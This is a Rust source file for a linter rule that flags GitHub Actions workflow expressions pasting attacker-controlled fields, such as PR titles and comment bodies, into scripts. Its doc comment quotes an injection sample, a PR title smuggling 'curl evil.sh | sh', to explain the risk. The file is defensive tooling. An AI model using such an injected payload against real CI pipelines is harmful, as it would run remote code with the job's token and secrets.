//! ## What it does
//! Flags `${{ ... }}` expressions in `run:` scripts (and in
//! `actions/github-script`'s `script:`) that expand attacker-controlled
//! values: issue, pull request, comment and review titles and bodies, commit
//! messages and authors, head branch names (`github.head_ref`), and the same
//! fields of a `workflow_run`.
//!
//! ## Why it matters
//! The expression is pasted into the script before the shell reads it: a PR
//! titled `"; curl evil.sh | sh; echo "` runs that command with the job's
//! token and secrets.
//!
//! zizmor's `template-injection` audit checks this more deeply and can
//! rewrite the step for you; this rule keeps the common cases in the editor.
//!
//! ## Example
//! ```yaml
//! - run: echo "Title: ${{ github.event.pull_request.title }}"
//! ```
//!
//! ## Safe alternative
//! ```yaml
//! - env:
//!     TITLE: ${{ github.event.pull_request.title }}
//!   run: echo "Title: $TITLE"
//! ```

use super::local_steps;
use crate::analysis::pipeline::Pipeline;
use crate::finding::{Finding, MigrationClass, Severity};
use crate::rules::{Check, Rule};
use crate::syntax::yaml::{Anchor, YamlPath};

pub static RULE: Rule = Rule {
    id: "template-injection",
    severity: Severity::Error,
    class: MigrationClass::Any,
    default_enabled: true,
    summary: "An attacker-controlled `${{ }}` value is pasted into a script",
    source: include_str!("template_injection.rs"),
    check: Check::Pipeline(check),
};

const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages",
    "github.event.commits",
    "github.event.head_commit.message",
    "github.event.head_commit.author",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit",
    "github.event.workflow_run.display_title",
    "github.head_ref",
];

fn check(p: &Pipeline, out: &mut Vec<Finding>) {
    for (_, step) in local_steps(p) {
        if let Some(run) = &step.run {
            scan(p, &run.text, &run.path, out);
        }
        if step.uses_action("actions/github-script")
            && let Some((script, path)) = step.input("script")
        {
            scan(p, script, path, out);
        }
    }
}

/// Reports each untrusted expression of `text`, the scalar at `path`.
fn scan(p: &Pipeline, text: &str, path: &YamlPath, out: &mut Vec<Finding>) {
    let mut from = 0;
    while let Some(open) = text[from..].find("${{").map(|i| from + i) {
        let close = text[open..].find("}}").map_or(text.len(), |i| open + i + 2);
        let expression: String = text[open..close]
            .chars()
            .filter(|c| !c.is_whitespace())
            .collect();
        if let Some(context) = UNTRUSTED.iter().find(|u| expression.contains(*u)) {
            out.extend(RULE.finding_at(
                p.docs,
                path,
                Anchor::Text(open..close),
                format!("`{context}` is attacker-controlled and is pasted into the script: pass it through `env:` instead (zizmor's `template-injection` can rewrite this)"),
            ));
        }
        from = close;
    }
}
